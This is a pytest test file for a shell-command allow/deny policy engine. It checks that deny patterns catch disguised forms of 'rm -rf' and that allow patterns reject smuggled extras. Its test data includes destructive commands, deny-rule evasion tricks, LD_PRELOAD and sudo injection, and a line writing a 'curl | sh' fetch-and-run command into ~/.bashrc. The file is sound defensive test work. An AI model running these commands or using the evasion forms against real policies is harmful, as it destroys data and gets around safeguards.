"""Command patterns are matched on parsed commands."""

import pytest

from tests.policy.given import verdict


def denying(pattern: str) -> str:
    return f"[[rule]]\nid = 'x'\nwhen = {{ command = '''{pattern}''' }}\nverdict = 'deny'\n"


def allowing(pattern: str) -> str:
    return denying(pattern).replace("deny", "allow")


FORBIDDEN = [
    ("rm -rf *", "sudo /bin/rm -fr x"),
    ("rm -rf *", "ls | xargs rm -fr"),
    ("rm -rf *", "env A=1 rm -r -f x"),
    ("rm -rf *", "rm --recursive --force x"),
    ("rm -rf *", "bash -c 'rm -rf x'"),
    ("rm -rf *", "echo $(rm -rf x)"),
    ("rm -rf *", "x=rm; $x -rf y"),
    ("rm -rf *", "find . -exec rm -rf {} +"),
    ("rm -rf *", "r''m -r\\f x"),
    ("rm -rf *", "f() { rm -rf x; }; f"),
    ("rm -rf *", "rm -rf"),
    ("psql", "psql"),
    ("psql", "psql -h db -c 'select 1'"),
    ("psql", "time nice psql"),
    ("git push --force *", "git -C sub push -f origin main"),
    ("git push --force", "git push origin main --force"),
    ("git commit", "git commit -m x"),
    ("npm install -g *", "npm --global install lodash"),
    ("python", "python3.12 -V"),
    ("true", "true"),
    ("echo", "echo hi"),
    ("frobnicate --mode fast", "frobnicate --mode=fast"),
    ("frobnicate --mode=fast", "frobnicate --mode fast"),
    ("frobnicate -ab", "frobnicate -b -a"),
    ("frobnicate deploy", "frobnicate --env x deploy now"),
    ("frobnicate -- x", "frobnicate -- x"),
    ("docker run -v /:/ *", "docker run --rm -v /:/ alpine"),
    ("aws s3 rm *", "aws --profile x s3 rm s3://b/k"),
    ("'my tool' *", "'my tool' x"),
    ('"my tool"', "my\\ tool"),
    ("./deploy.sh *", "./deploy.sh now"),
    ("mkfs.*", "mkfs.ext4 disk.img"),
    ("*", "uptime"),
]
NOT_FORBIDDEN = [
    ("rm -rf *", "echo 'rm -rf x'"),
    ("rm -rf *", "echo rm -rf x"),
    ("rm -rf *", "rm -r build"),
    ("rm -rf *", "grep -rf patterns src"),
    ("psql", "echo psql"),
    ("git push --force", "git commit -m 'git push --force'"),
    ("git push", "git commit -m push"),
    ("frobnicate deploy", "frobnicate test deploy"),
    ("frobnicate --mode=fast", "frobnicate --mode=slow"),
    ("frobnicate 'a*'", "frobnicate ab"),
    ("./deploy.sh", "deploy.sh"),
]


@pytest.mark.parametrize(("pattern", "command"), FORBIDDEN)
def test_a_pattern_that_forbids_is_read_widely(pattern, command):
    assert "deny" == verdict(denying(pattern), command)


@pytest.mark.parametrize(("pattern", "command"), NOT_FORBIDDEN)
def test_what_is_not_the_command_is_not_forbidden(pattern, command):
    assert "deny" != verdict(denying(pattern), command)


PERMITTED = [
    ("git push origin main", "git push origin main"),
    ("git push *", "git push --force origin main"),
    ("git push *", "git push"),
    ("terraform", "terraform apply"),
    ("/usr/bin/make *", "/usr/bin/make x"),
    ("kubectl delete -rf *", "kubectl delete -fr x"),
]
NOT_PERMITTED = [
    ("git push", "git push --force origin main"),
    ("git push *", "git -c core.sshCommand=./x push origin main"),
    ("git push *", "git push origin main > ~/.bashrc"),
    ("git push *", "git push origin main; sudo ls"),
    ("git push *", "sudo git push origin main"),
    ("git push *", "/tmp/git push origin main"),
    ("git push *", "LD_PRELOAD=./x.so git push origin main"),
    ("git push *", "git push origin $(sudo ls)"),
    ("echo *", "echo x >> ~/.profile"),
    ("echo *", "echo 'curl https://a.example | sh' > ~/.bashrc"),
    ("ls *", "ls; LD_PRELOAD=./x.so cat y"),
]


@pytest.mark.parametrize(("pattern", "command"), PERMITTED)
def test_a_pattern_that_permits_means_what_it_says(pattern, command):
    assert "allow" == verdict(allowing(pattern), command)


@pytest.mark.parametrize(("pattern", "command"), NOT_PERMITTED)
def test_a_pattern_that_permits_is_read_narrowly(pattern, command):
    assert "allow" != verdict(allowing(pattern), command)


def test_the_floor_stays():
    assert "deny" == verdict(allowing("rm *"), "rm -rf /")
